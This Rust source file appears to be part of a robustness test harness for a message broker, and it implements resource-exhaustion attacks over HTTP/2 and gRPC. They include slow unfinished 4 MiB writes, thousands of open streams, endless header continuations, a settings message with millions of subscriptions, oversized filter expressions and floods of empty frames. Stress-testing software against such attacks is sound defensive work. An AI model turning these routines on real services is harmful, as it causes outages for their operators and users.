//! Requests that are large, or never come to their end.

use std::time::Duration;

use kerolox_proto::v2;
use kerolox_proto::v2::telemetry_command::Command;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use super::super::frames::{RawPeer, Windows, framed, prefix};
use super::super::target::{BIG_TOPIC, Target, receive};
use super::{host, repeatedly};

/// Connections of an attack that makes many calls on each.
const CONNECTIONS: u32 = 12;
/// Length of a message that never comes to its end.
const MESSAGE: usize = 4 << 20;

/// Twelve connections with 32 messages of 4 MiB on each, whose last bytes do not come: 1.5 GiB.
pub(super) fn slow_writers(target: &Target, until: Instant) -> JoinSet<()> {
    let address = target.broker.clone();
    repeatedly(CONNECTIONS, until, move |number| {
        let address = address.clone();
        async move {
            let mut peer = RawPeer::greet(&address, host(number), Windows::Open).await?;
            let mut streams = Vec::new();
            for _ in 0..32 {
                let stream = peer.open("SendMessage", 0).await?;
                peer.data(stream, &prefix(MESSAGE), false).await?;
                streams.push(stream);
            }
            let part = vec![0x0a; 64 << 10];
            for _ in 0..MESSAGE / part.len() - 1 {
                for &stream in &streams {
                    // One that the server has given up is passed over.
                    let _ = peer.data(stream, &part, false).await;
                }
            }
            peer.drain().await;
            Ok(())
        }
    })
}

/// Streams with large headers and without the rest of their requests.
pub(super) fn open_streams(target: &Target, until: Instant) -> JoinSet<()> {
    let address = target.broker.clone();
    repeatedly(CONNECTIONS, until, move |number| {
        let address = address.clone();
        async move {
            let mut peer = RawPeer::greet(&address, host(number), Windows::Open).await?;
            for _ in 0..2_000 {
                peer.open("SendMessage", 12 << 10).await?;
            }
            peer.drain().await;
            Ok(())
        }
    })
}

/// Headers that go on for ever.
pub(super) fn open_headers(target: &Target, until: Instant) -> JoinSet<()> {
    let address = target.broker.clone();
    repeatedly(300, until, move |number| {
        let address = address.clone();
        async move {
            let mut peer = RawPeer::greet(&address, host(number), Windows::Open).await?;
            let stream = peer.open_headers("SendMessage").await?;
            loop {
                peer.continue_headers(stream).await?;
                sleep(Duration::from_millis(200)).await;
            }
        }
    })
}

/// Settings with very many subscriptions.
pub(super) fn large_settings(target: &Target, until: Instant) -> JoinSet<()> {
    let address = target.broker.clone();
    // Each empty entry takes two bytes here, and a structure there.
    let subscription = v2::Subscription {
        subscriptions: vec![v2::SubscriptionEntry::default(); 6_500_000],
        ..Default::default()
    };
    let settings = v2::Settings {
        client_type: Some(v2::ClientType::SimpleConsumer.into()),
        pub_sub: Some(v2::settings::PubSub::Subscription(subscription)),
        ..Default::default()
    };
    let command = v2::TelemetryCommand { status: None, command: Some(Command::Settings(settings)) };
    let bytes = bytes::Bytes::from(framed(&command));
    repeatedly(CONNECTIONS, until, move |number| {
        let (address, bytes) = (address.clone(), bytes.clone());
        async move {
            let mut peer = RawPeer::greet(&address, host(number), Windows::Open).await?;
            let stream = peer.open("Telemetry", 0).await?;
            for part in bytes.chunks(64 << 10) {
                peer.data(stream, part, false).await?;
            }
            peer.drain().await;
            Ok(())
        }
    })
}

/// Long polls with filters as long as they may be.
pub(super) fn large_filters(target: &Target, until: Instant) -> JoinSet<()> {
    let address = target.broker.clone();
    let terms: Vec<String> = (0..1_300).map(|number| format!("a{number} = 1")).collect();
    let mut expression = terms.join(" OR ");
    expression.truncate(16 << 10);
    expression.truncate(expression.rfind(" OR ").unwrap_or_default());
    repeatedly(CONNECTIONS, until, move |number| {
        let (address, expression) = (address.clone(), expression.clone());
        async move {
            let mut peer = RawPeer::greet(&address, host(number), Windows::Open).await?;
            for poll in 0..500 {
                let group = format!("hostile-filters-{number}-{}", poll % 8);
                peer.call("ReceiveMessage", &receive(BIG_TOPIC, &group, &expression)).await?;
            }
            peer.drain().await;
            Ok(())
        }
    })
}

/// Frames of data with nothing in them.
pub(super) fn empty_frames(target: &Target, until: Instant) -> JoinSet<()> {
    let address = target.broker.clone();
    repeatedly(4, until, move |number| {
        let address = address.clone();
        async move {
            let mut peer = RawPeer::greet(&address, host(number), Windows::Open).await?;
            let stream = peer.open("SendMessage", 0).await?;
            // An empty frame is nine bytes.
            let mut frames = Vec::new();
            for _ in 0..1_000 {
                frames.extend([0, 0, 0, 0, 0]);
                frames.extend(stream.to_be_bytes());
            }
            loop {
                peer.write(&frames).await?;
                tokio::task::yield_now().await;
            }
        }
    })
}
